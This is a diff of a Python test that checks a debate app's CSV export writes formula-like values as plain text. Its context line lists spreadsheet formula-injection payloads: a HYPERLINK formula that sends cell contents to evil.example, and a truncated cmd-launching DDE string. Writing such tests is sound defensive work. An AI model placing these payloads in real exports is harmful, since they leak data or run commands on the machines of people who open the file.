@@ -15,8 +15,8 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C ca
 def test_a_cell_that_would_run_as_a_formula_is_written_as_text(app, client, mini, formula):
     with app.app_context(), db.write_session() as session:
         session.execute(text("UPDATE node SET title = :t WHERE id = :id"), {"t": formula, "id": mini["pro-boards"]})
-        session.execute(text("UPDATE citation SET quote = :q, locator = :q WHERE node_id = :id"),
-                        {"q": formula, "id": mini["pro-boards"]})
+        session.execute(text("UPDATE citation SET quote = :q, locator = :l WHERE node_id = :id"),
+                        {"q": formula, "l": formula, "id": mini["pro-boards"]})
         session.execute(text("UPDATE voice SET name = :n"), {"n": formula})
     body = client.get("/debates/mini/export/csv").get_data(as_text=True)
     rows = list(csv.DictReader(io.StringIO(body)))
